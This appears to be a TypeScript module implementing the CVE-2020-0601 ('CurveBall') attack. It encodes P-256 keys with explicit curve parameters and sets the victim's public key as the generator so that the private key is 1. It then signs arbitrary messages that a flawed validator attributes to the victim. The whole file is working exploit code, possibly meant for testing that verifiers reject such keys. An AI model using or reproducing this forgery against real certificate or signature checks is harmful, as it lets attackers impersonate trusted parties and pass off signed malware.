import { createECDH, createHash, randomBytes } from 'node:crypto'
import { bitString, children, integer, octetString, oid, sequence } from './der.ts'

/** P-256, SEC 2 section 2.4.2. */
const PRIME = 0xffffffff00000001000000000000000000000000ffffffffffffffffffffffffn
const B = '5ac635d8aa3a93e7b3ebbd55769886bc651d06b0cc53b0f63bce3c3e27d2604b'
const GENERATOR =
  '046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296' +
  '4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5'
const ORDER = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n

/**
 * A P-256 key whose curve is spelled out instead of named (RFC 3279 section 2.3.5; RFC 5480 forbids it).
 * @param generator the base point that the parameters claim; by default the curve's own
 * @throws TypeError where the key is not on P-256
 */
export function explicitCurveKey(publicKey: Uint8Array, generator: Uint8Array = fromHex(GENERATOR)): Uint8Array {
  const parameters = sequence(
    integer(1),
    sequence(oid('1.2.840.10045.1.1'), integer(PRIME)),
    sequence(octetString(fixed(PRIME - 3n)), octetString(fromHex(B))),
    octetString(generator),
    integer(ORDER),
    integer(1),
  )
  return sequence(sequence(oid('1.2.840.10045.2.1'), parameters), bitString(pointOf(publicKey)))
}

/**
 * CVE-2020-0601: with the victim's public key Q as the generator, the private key is 1, so that anyone can sign.
 * Who compares public keys and not their parameters takes the forgery for the victim's.
 */
export function forgedKey(victim: Uint8Array): { publicKey: Uint8Array; sign(message: Uint8Array): Uint8Array } {
  const point = pointOf(victim)
  return { publicKey: explicitCurveKey(victim, point), sign: (message) => signWithOne(point, message) }
}

/** ECDSA over generator `point` with private key 1: r = x(k·point), s = (hash + r) / k. The multiplication is what ECDH does. */
function signWithOne(point: Uint8Array, message: Uint8Array): Uint8Array {
  const hash = toBigInt(createHash('sha256').update(message).digest())
  const ecdh = createECDH('prime256v1')
  const k = (toBigInt(randomBytes(32)) % (ORDER - 1n)) + 1n
  ecdh.setPrivateKey(fixed(k))
  const r = toBigInt(ecdh.computeSecret(point)) % ORDER
  const s = (power(k, ORDER - 2n) * ((hash + r) % ORDER)) % ORDER
  return sequence(integer(r), integer(s))
}

function power(base: bigint, exponent: bigint): bigint {
  let result = 1n
  for (let square = base, left = exponent; left > 0n; left >>= 1n) {
    if (left & 1n) result = (result * square) % ORDER
    square = (square * square) % ORDER
  }
  return result
}

function pointOf(publicKey: Uint8Array): Uint8Array {
  const point = children(publicKey)[1]?.subarray(3)
  if (point?.length !== 65 || point[0] !== 4) throw new TypeError('explicit curve parameters need a P-256 key')
  return point
}

function fixed(value: bigint): Uint8Array {
  return fromHex(value.toString(16).padStart(64, '0'))
}

function fromHex(text: string): Uint8Array {
  return Uint8Array.from(Buffer.from(text, 'hex'))
}

function toBigInt(bytes: Uint8Array): bigint {
  return BigInt(`0x${Buffer.from(bytes).toString('hex')}`)
}
